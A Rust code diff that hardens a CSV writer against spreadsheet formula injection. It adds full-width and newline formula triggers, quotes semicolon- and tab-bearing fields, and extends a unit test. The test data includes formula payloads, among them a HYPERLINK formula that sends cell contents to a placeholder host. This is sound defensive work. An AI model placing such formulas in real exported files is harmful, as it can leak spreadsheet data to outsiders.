@@ -14,8 +14,9 @@ use matyan_value::{
     json::{JsonStyle, write_text},
 };
 
-/// First characters of a formula.
-const FORMULAS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+/// First characters of a formula, also as wide characters, which Excel in East Asian languages takes for the narrow
+/// ones. Before a formula, spreadsheets skip tabs and ends of lines.
+const FORMULAS: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
 
 /// The treatment of texts that look like formulas.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
@@ -160,7 +161,8 @@ fn write_field(out: &mut Vec<u8>, text: &str, formulas: Formulas) {
         Formulas::Defused | Formulas::Kept => None,
     };
     let text = defused.as_deref().unwrap_or(text);
-    let is_plain = !text.bytes().any(|byte| matches!(byte, b',' | b'"' | b'\r' | b'\n'));
+    // Some spreadsheets also separate cells by semicolons or tabs.
+    let is_plain = !text.bytes().any(|byte| matches!(byte, b',' | b';' | b'\t' | b'"' | b'\r' | b'\n'));
     let has_edge_space = text.starts_with(' ') || text.ends_with(' ');
     if !text.is_empty() && !has_edge_space && is_plain {
         out.extend_from_slice(text.as_bytes());
@@ -204,18 +206,35 @@ mod tests {
 
     #[test]
     fn rule_76_a_text_is_no_formula() {
-        let formulas =
-            ["=1+1", "+A1", "-A1", "@SUM(A1)", "\t=1", "\r=1", "=HYPERLINK(\"http://x/?\"&A1,\"a\")"];
+        let formulas = [
+            "=1+1",
+            "+A1",
+            "-A1",
+            "@SUM(A1)",
+            "\t=1",
+            "\r=1",
+            "\n=1",
+            "＝1",
+            "＋A1",
+            "－A1",
+            "＠A1",
+            "=HYPERLINK(\"http://x/?\"&A1,\"a\")",
+        ];
         let numbers = ["-1", "+1.5e3", "-inf", "-0"];
-        let others = ["a=b", "'=1", " =1"];
+        let others = ["a=b", "'=1", " =1", "a;=1", "a\t=1"];
         let texts = StringArray::from([formulas.as_slice(), &numbers, &others].concat());
         let expected = [
             "'=1+1",
             "'+A1",
             "'-A1",
             "'@SUM(A1)",
-            "'\t=1",
+            "\"'\t=1\"",
             "\"'\r=1\"",
+            "\"'\n=1\"",
+            "'＝1",
+            "'＋A1",
+            "'－A1",
+            "'＠A1",
             "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"a\"\")\"",
             "-1",
             "+1.5e3",
@@ -224,13 +243,18 @@ mod tests {
             "a=b",
             "'=1",
             "\" =1\"",
+            "\"a;=1\"",
+            "\"a\t=1\"",
         ];
         assert_eq!(
             csv(Arc::new(texts.clone()), Formulas::Defused),
             format!("c\r\n{}\r\n", expected.join("\r\n"))
         );
         let kept = csv(Arc::new(texts), Formulas::Kept);
-        assert!(kept.starts_with("c\r\n=1+1\r\n+A1\r\n-A1\r\n@SUM(A1)\r\n\t=1\r\n\"\r=1\"\r\n"), "{kept}");
+        assert!(
+            kept.starts_with("c\r\n=1+1\r\n+A1\r\n-A1\r\n@SUM(A1)\r\n\"\t=1\"\r\n\"\r=1\"\r\n"),
+            "{kept}"
+        );
         let mut dictionary = StringDictionaryBuilder::<Int32Type>::new();
         dictionary.append_value("=1");
         assert_eq!(csv(Arc::new(dictionary.finish()), Formulas::Defused), "c\r\n'=1\r\n");
